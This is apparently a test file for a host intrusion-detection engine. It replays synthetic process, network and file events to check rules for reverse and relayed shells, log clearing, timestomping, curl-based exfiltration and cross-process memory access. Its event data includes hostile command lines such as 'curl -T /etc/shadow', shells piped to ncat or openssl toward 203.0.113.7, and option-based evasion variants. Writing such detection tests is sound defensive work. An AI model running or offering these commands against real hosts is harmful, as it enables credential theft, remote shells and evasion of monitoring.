"""Issue 15 detection depth (s14-det): the behaviours our own variants found unseen,
each with the benign look-alike that must stay silent."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from bastion.detect.behavior import behavior_rules
from bastion.detect.engine import Engine, Finding, RuleContext
from bastion.proctable import ProcessTable
from bastion.sensors.replay import read_all
from support.trust import RecordedTrust, path_ino


class Rec:
    """A tiny recording: exec/connect/file events with the kernel's fd 0/1 kinds."""

    def __init__(self) -> None:
        self.n = 0
        self.lines: list[dict[str, Any]] = []
        self.procs: dict[int, tuple[int, str]] = {}
        self.exec(1, 0, "/sbin/init", ["/sbin/init"])
        self.exec(100, 1, "/usr/bin/bash", ["-bash"])

    def _hdr(self, pid: int) -> dict[str, Any]:
        self.n += 1
        ppid, exe = self.procs[pid]
        return {"time": "2026-01-01T00:00:%02d.%06dZ" % divmod(self.n * 10000, 1_000_000),
                "pid": pid, "tid": pid, "ppid": ppid, "uid": 0, "euid": 0, "gid": 0,
                "cgroup_id": 1, "comm": exe.rsplit("/", 1)[1][:15], "start_ns": pid * 1000,
                "exe": exe}

    def exec(self, pid: int, ppid: int, exe: str, argv: list[str], stdin: str = "tty",
             stdout: str = "tty", cwd: str = "/root") -> "Rec":
        self.procs[pid] = (ppid, exe)
        self.lines.append({"type": "exec", **self._hdr(pid), "filename": exe, "cwd": cwd,
                           "argv": argv, "exe_dev": 1, "exe_ino": path_ino(exe),
                           "exe_nlink": 1, "stdin": stdin, "stdout": stdout})
        return self

    def connect(self, pid: int, daddr: str, dport: int) -> "Rec":
        self.lines.append({"type": "connect", **self._hdr(pid), "family": "inet",
                           "protocol": "tcp", "daddr": daddr, "dport": dport})
        return self

    def file(self, pid: int, op: str, path: str, **kw: Any) -> "Rec":
        self.lines.append({"type": op, **self._hdr(pid), "path": path, **kw})
        return self

    def ptrace(self, pid: int, request_name: str, target: int) -> "Rec":
        self.lines.append({"type": "ptrace", **self._hdr(pid), "request_name": request_name,
                           "target_pid": target})
        return self

    def run(self, tmp: Path) -> list[Finding]:
        p = tmp / "rec.jsonl"
        p.write_text("".join(json.dumps(x) + "\n" for x in self.lines))
        procs, trust = ProcessTable(), RecordedTrust()
        engine = Engine(behavior_rules(trust=trust))
        ctx = RuleContext(procs)
        out: list[Finding] = []
        for ev in read_all(p):
            trust.learn(ev)
            procs.update(ev)
            out += engine.evaluate(ev, ctx)
        assert not engine.errors, engine.disabled
        return out


def of(found: list[Finding], rule: str) -> list[Finding]:
    return [f for f in found if f.rule == f"behavior.{rule}"]


def test_relayed_shell_parent_feeds_the_pipe(tmp_path: Path) -> None:
    """node's net.connect + spawn('/bin/sh') with piped streams: the shell (not the relay)
    is stopped; the same spawn by a process that never connected out is silent."""
    r = Rec().exec(200, 100, "/usr/bin/node", ["node", "-e", "x"]).connect(200, "203.0.113.7", 4444)
    r.exec(201, 200, "/usr/bin/dash", ["/bin/sh"], stdin="pipe:[11]", stdout="pipe:[12]")
    r.exec(300, 100, "/usr/bin/node", ["node", "build.js"])
    r.exec(301, 300, "/usr/bin/dash", ["/bin/sh"], stdin="pipe:[21]", stdout="pipe:[22]")
    got = of(r.run(tmp_path), "relayed_shell")
    assert [(f.pid, f.severity, f.action) for f in got] == [(201, "critical", "kill")]
    assert got[0].evidence["relay"] == "node" and got[0].evidence["peer"] == "203.0.113.7:4444"


def test_relayed_shell_fifo_loop_either_order(tmp_path: Path) -> None:
    """``sh -i < fifo | openssl s_client > fifo``: the pair is made by the pipe inode,
    whether the client connects after both execs or before the shell's exec."""
    r = Rec().exec(200, 100, "/usr/bin/dash", ["/bin/sh", "-i"], stdin="pipe:[30]",
                   stdout="pipe:[31]")
    r.exec(201, 100, "/usr/bin/openssl", ["openssl", "s_client"], stdin="pipe:[31]",
           stdout="pipe:[30]").connect(201, "203.0.113.7", 443)
    r.exec(301, 100, "/usr/bin/openssl", ["openssl", "s_client"], stdin="pipe:[41]",
           stdout="pipe:[40]").connect(301, "203.0.113.7", 443)
    r.exec(300, 100, "/usr/bin/dash", ["/bin/sh", "-i"], stdin="pipe:[40]", stdout="pipe:[41]")
    got = of(r.run(tmp_path), "relayed_shell")
    assert sorted(f.pid for f in got) == [200, 300]


def test_relayed_shell_leaves_pipelines_and_scripts(tmp_path: Path) -> None:
    """``sh < x | gzip``, ``sh -c`` under a networked app, a login shell on a tty of a
    networked tmux: none is a relayed session."""
    r = Rec().exec(200, 100, "/usr/bin/dash", ["sh"], stdin="pipe:[50]", stdout="pipe:[51]")
    r.exec(201, 100, "/usr/bin/gzip", ["gzip"], stdin="pipe:[51]", stdout="file")
    r.exec(300, 100, "/usr/bin/python3.11", ["python3", "app.py"]).connect(300, "10.0.0.3", 5432)
    r.exec(301, 300, "/usr/bin/dash", ["/bin/sh", "-c", "ls"], stdin="pipe:[60]", stdout="pipe:[61]")
    r.exec(400, 100, "/usr/bin/tmux", ["tmux"]).connect(400, "10.0.0.9", 22)
    r.exec(401, 400, "/usr/bin/bash", ["-bash"], stdin="tty", stdout="tty")
    found = r.run(tmp_path)
    assert not of(found, "relayed_shell") and not of(found, "pty_socket_shell")


def test_a_pipeline_into_a_database_client_is_alerted_not_killed(tmp_path: Path) -> None:
    """``sh -s < gen.sql | psql -h db`` and ``bash <<EOF | mysql -h db`` (bash feeds a
    heredoc through a pipe): the shape of a relay, an administrator's habit.  A shell
    that is not interactive writing to a networked client is alerted (high), not
    killed; ``sh -i`` in the same place still is (s14 review; killed before)."""
    r = Rec().exec(200, 100, "/usr/bin/dash", ["sh", "-s"], stdin="pipe:[70]",
                   stdout="pipe:[71]")
    r.exec(201, 100, "/usr/bin/psql", ["psql", "-h", "db"], stdin="pipe:[71]",
           stdout="tty").connect(201, "10.0.0.5", 5432)
    r.exec(300, 100, "/usr/bin/mysql", ["mysql", "-h", "db"], stdin="pipe:[81]",
           stdout="tty").connect(300, "10.0.0.6", 3306)
    r.exec(301, 100, "/usr/bin/bash", ["bash"], stdin="pipe:[80]", stdout="pipe:[81]")
    r.exec(400, 100, "/usr/bin/dash", ["sh", "-si"], stdin="pipe:[90]", stdout="pipe:[91]")
    r.exec(401, 100, "/usr/bin/ncat", ["ncat", "203.0.113.7", "443"], stdin="pipe:[91]",
           stdout="pipe:[90]").connect(401, "203.0.113.7", 443)
    got = of(r.run(tmp_path), "relayed_shell")
    assert sorted((f.pid, f.severity, f.action) for f in got) == [
        (200, "high", "alert"), (301, "high", "alert"), (400, "critical", "kill")]


def test_bind_shell_socket_stdio_from_the_kernel(tmp_path: Path) -> None:
    """A shell handed an accepted socket as fd 0 and 1 (``Popen(['/bin/sh'], stdin=conn,
    stdout=conn)``) is a bind/reverse shell by the kernel's report alone (no /proc look-up:
    it may be gone before one)."""
    r = Rec().exec(200, 100, "/usr/bin/python3.11", ["python3", "srv.py"])
    r.exec(201, 200, "/usr/bin/dash", ["/bin/sh"], stdin="socket:[70]", stdout="socket:[70]")
    r.exec(300, 100, "/usr/bin/dash", ["/bin/sh"], stdin="pipe:[80]", stdout="socket:[81]")
    got = of(r.run(tmp_path), "reverse_shell")
    assert [f.pid for f in got] == [201]


def test_journal_vacuum_is_log_clearing(tmp_path: Path) -> None:
    r = Rec().exec(200, 100, "/usr/bin/journalctl", ["journalctl", "--vacuum-time=1s"])
    r.exec(201, 100, "/usr/bin/journalctl", ["journalctl", "-u", "ssh", "--since", "today"])
    got = of(r.run(tmp_path), "log_clearing")
    assert [(f.pid, f.severity) for f in got] == [(200, "medium")]


def test_timestomp_bundled_and_joined_options(tmp_path: Path) -> None:
    r = Rec().exec(200, 100, "/usr/bin/touch", ["touch", "-md", "2019-01-01", "/usr/bin/id"])
    r.exec(201, 100, "/usr/bin/touch", ["touch", "--reference=/bin/ls", "sbin/x"], cwd="/usr")
    r.exec(202, 100, "/usr/bin/touch", ["touch", "--time=mtime", "/usr/bin/id"])
    r.exec(203, 100, "/usr/bin/touch", ["touch", "-d", "/usr/bin/id", "/home/u/f"])
    got = of(r.run(tmp_path), "timestomp")
    assert [(f.pid, f.evidence["paths"]) for f in got] == [(200, ["/usr/bin/id"]),
                                                           (201, ["/usr/sbin/x"])]


def test_exfil_upload_severity_by_file_class(tmp_path: Path) -> None:
    r = Rec().exec(200, 100, "/usr/bin/curl", ["curl", "-T", "/etc/shadow", "ftp://h/"])
    r.exec(201, 100, "/usr/bin/curl", ["curl", "--data-binary", "@/var/log/auth.log", "http://h"])
    r.exec(202, 100, "/usr/bin/curl", ["curl", "--data-urlencode", "q@/etc/hostname", "http://h"])
    r.exec(203, 100, "/usr/bin/curl", ["curl", "-F", "a=@report.xml", "http://h"], cwd="/home/u")
    r.exec(204, 100, "/usr/bin/curl", ["curl", "--data-urlencode", "a=b@/etc/x", "http://h"])
    got = of(r.run(tmp_path), "exfil_upload")
    assert [(f.pid, f.severity) for f in got] == [(200, "high"), (201, "medium"), (202, "medium")]


def test_pty_shell_gone_before_the_probe(tmp_path: Path) -> None:
    """pty.spawn reverse shell whose session is over before the /proc look-up (the peer
    sent ``id; exit`` at once): the kernel's character-device fd 0 of a shell reading its
    commands decides; a ``sh -c`` of a networked app with /dev/null stdin does not."""
    from bastion.detect.behavior import Probes
    from bastion.detect.engine import Engine as E

    r = Rec().exec(200, 100, "/usr/bin/python3.11", ["python3", "-c", "x"])
    r.connect(200, "203.0.113.7", 4444)
    r.exec(201, 200, "/usr/bin/dash", ["/bin/sh"], stdin="tty", stdout="tty")
    r.exec(300, 100, "/usr/bin/python3.11", ["python3", "app.py"]).connect(300, "10.0.0.3", 5432)
    r.exec(301, 300, "/usr/bin/dash", ["/bin/sh", "-c", "ls"], stdin="tty", stdout="pipe:[9]")
    p = tmp_path / "rec.jsonl"
    p.write_text("".join(json.dumps(x) + "\n" for x in r.lines))
    procs, trust = ProcessTable(), RecordedTrust()
    engine = E(behavior_rules(trust=trust, probes=Probes(stdio=lambda pid: None)))
    ctx = RuleContext(procs)
    found: list[Finding] = []
    for ev in read_all(p):
        trust.learn(ev)
        procs.update(ev)
        found += engine.evaluate(ev, ctx)
    got = of(found, "pty_socket_shell")
    assert [(f.pid, f.action) for f in got] == [(200, "kill-tree")]


def test_relayed_shell_reads_options_by_the_shells_table(tmp_path: Path) -> None:
    """An option's argument is no script (s15-svc): ``bash -o posix``, ``bash --rcfile f``,
    ``sh -O extglob``, ``bash --init-file f -i``, ``bash --norc`` (a long option with a
    ``c`` in it is no -c) fed by a connected relay are all relayed shells; ``bash -o
    posix script.sh`` and ``bash -o posix -c cmd`` still run a program (the old parser
    took the option's value as the script and let the first five go)."""
    r = Rec()
    evasive = [["bash", "-o", "posix"], ["bash", "--rcfile", "/tmp/f"],
               ["/bin/bash", "-O", "extglob"], ["bash", "--init-file", "/tmp/f", "-i"],
               ["bash", "--norc"], ["bash", "+o", "history"], ["bash", "-xo", "posix"]]
    for n, argv in enumerate(evasive):
        pid = 200 + 10 * n
        r.exec(pid, 100, "/usr/bin/python3.11", ["python3", "r.py"]).connect(pid, "203.0.113.7", 4444)
        r.exec(pid + 1, pid, "/usr/bin/bash", argv, stdin=f"pipe:[{pid}]",
               stdout=f"pipe:[{pid + 1}]")
    for n, argv in enumerate([["bash", "-o", "posix", "s.sh"], ["bash", "-o", "posix", "-c", "ls"]]):
        pid = 400 + 10 * n
        r.exec(pid, 100, "/usr/bin/python3.11", ["python3", "r.py"]).connect(pid, "203.0.113.7", 4444)
        r.exec(pid + 1, pid, "/usr/bin/bash", argv, stdin=f"pipe:[{pid}]",
               stdout=f"pipe:[{pid + 1}]")
    got = of(r.run(tmp_path), "relayed_shell")
    assert sorted(f.pid for f in got) == [201 + 10 * n for n in range(len(evasive))]
    assert {f.action for f in got} == {"kill"}


def test_interactive_through_an_option_value_is_killed(tmp_path: Path) -> None:
    """``bash -o posix -i < fifo | ncat ...``: the old reading stopped at ``posix``
    (an operand to it) and called the shell non-interactive: alerted, not killed."""
    r = Rec().exec(200, 100, "/usr/bin/bash", ["bash", "-o", "posix", "-i"], stdin="pipe:[90]",
                   stdout="pipe:[91]")
    r.exec(201, 100, "/usr/bin/ncat", ["ncat", "203.0.113.7", "443"], stdin="pipe:[91]",
           stdout="pipe:[90]").connect(201, "203.0.113.7", 443)
    got = of(r.run(tmp_path), "relayed_shell")
    assert [(f.pid, f.severity, f.action) for f in got] == [(200, "critical", "kill")]


def test_shell_option_tables() -> None:
    from bastion.detect.behavior.shellargs import parse_shell_argv as p
    assert p("bash", ["bash", "-o", "posix"]).stdin
    assert p("bash", ["bash", "--init-file", "f", "-i"]).interactive
    assert p("bash", ["bash", "-o", "posix", "x.sh"]).script == "x.sh"
    assert p("bash", ["bash", "-oO", "posix", "extglob", "x.sh"]).script == "x.sh"
    assert p("bash", ["bash", "-s", "a", "b"]).stdin
    assert p("bash", ["bash", "--", "x.sh"]).script == "x.sh"
    assert p("bash", ["bash", "-", "x.sh"]).script == "x.sh"
    assert p("bash", ["bash", "-ec", "ls"]).command
    assert not p("bash", ["bash", "--norc"]).command
    assert p("dash", ["sh", "-o", "errexit", "run.sh"]).script == "run.sh"
    assert p("zsh", ["zsh", "-onoclobber", "run.zsh"]).script == "run.zsh"
    assert p("zsh", ["zsh", "-o", "noclobber"]).stdin
    assert p("fish", ["fish", "-C", "set x 1"]).stdin
    assert p("fish", ["fish", "-c", "echo hi"]).command
    assert p("fish", ["fish", "--command=echo hi"]).command
    assert p("busybox", ["busybox", "sh", "-o", "pipefail"]).stdin
    assert p("busybox", ["busybox", "sh", "run.sh"]).script == "run.sh"
    assert p("mksh", ["mksh", "-T", "/dev/tty2", "-i"]).interactive


def test_timestomp_by_any_program_but_not_by_a_copy_or_unpack(tmp_path: Path) -> None:
    """s23: the kernel's utimes record (a chosen mtime) on a system file: python's
    os.utime on a binary it never wrote is a stomp; cp -p / tar writing the file and
    then giving it its time are not (by path and by inode); "now" never crosses; a
    file outside the system directories is not judged."""
    old = 1_000_000_000 * 1_000_000_000
    r = Rec().exec(200, 100, "/usr/bin/python3.11", ["python3", "-c", "x"])
    r.file(200, "utimes", "/usr/bin/id", mode=3, mtime_set_ns=old, dev=8, ino=77)
    r.exec(201, 100, "/usr/bin/cp", ["cp", "-p", "/tmp/a", "/usr/local/bin/a"])
    r.file(201, "open", "/usr/local/bin/a", flags=0o1101, dev=8, ino=88)
    r.file(201, "utimes", "/usr/local/bin/a", mode=3, mtime_set_ns=old, dev=8, ino=88)
    r.exec(202, 100, "/usr/bin/tar", ["tar", "xf", "x.tar", "-C", "/"])
    r.file(202, "open", "/usr/sbin/tool.tmp", flags=0o1101, dev=8, ino=99)
    r.file(202, "utimes", "/usr/sbin/tool", mode=2, mtime_set_ns=old, dev=8, ino=99)  # renamed
    r.exec(203, 100, "/usr/bin/python3.11", ["python3", "-c", "y"])
    r.file(203, "utimes", "/home/u/notes.txt", mode=3, mtime_set_ns=old, dev=8, ino=55)
    r.file(203, "utimes", "/usr/bin/ls", mode=1, dev=8, ino=56)     # atime only
    r.exec(204, 100, "/usr/bin/perl", ["perl", "-e", "utime"])
    r.file(204, "open", "/usr/bin/other", flags=0o1101, dev=8, ino=61)
    r.file(204, "utimes", "/usr/bin/id", mode=2, mtime_set_ns=old, dev=8, ino=77)
    # an open for write (no create, no truncate) of the victim excuses nothing
    r.exec(205, 100, "/usr/bin/python3.11", ["python3", "-c", "z"])
    r.file(205, "open", "/usr/bin/id", flags=0o2, dev=8, ino=77, created=False)
    r.file(205, "utimes", "/usr/bin/id", mode=3, mtime_set_ns=old, dev=8, ino=77)
    # a dropper that writes the binary itself and ages it is no copy tool (review 8)
    r.exec(206, 100, "/usr/bin/python3.11", ["python3", "drop.py"])
    r.file(206, "open", "/usr/local/bin/helper", flags=0o1101, dev=8, ino=66, created=True)
    r.file(206, "utimes", "/usr/local/bin/helper", mode=3, mtime_set_ns=old, dev=8, ino=66)
    got = of(r.run(tmp_path), "timestomp_call")
    assert [(f.pid, f.evidence["path"]) for f in got] == [
        (200, "/usr/bin/id"), (204, "/usr/bin/id"), (205, "/usr/bin/id"),
        (206, "/usr/local/bin/helper")]
    assert got[0].severity == "medium" and "2001-09-09 01:46:40 UTC" in got[0].title


def test_process_vm_readv_and_writev_of_another_process(tmp_path: Path) -> None:
    """s23: another process's memory without ptrace (compat's VM_READV/VM_WRITEV
    records): a read is proc_mem_access (high), a write ptrace_injection (critical,
    kill); the process's own memory is nothing."""
    r = Rec().exec(200, 100, "/usr/bin/python3.11", ["python3", "-c", "x"])
    r.ptrace(200, "VM_READV", 555).ptrace(200, "VM_READV", 200).ptrace(200, "VM_WRITEV", 556)
    found = r.run(tmp_path)
    reads = of(found, "proc_mem_access")
    writes = of(found, "ptrace_injection")
    assert [(f.evidence["target_pid"], f.severity) for f in reads] == [(555, "high")]
    assert "process_vm_readv" in reads[0].title
    assert [(f.evidence["target_pid"], f.severity, f.action) for f in writes] == [
        (556, "critical", "kill")]
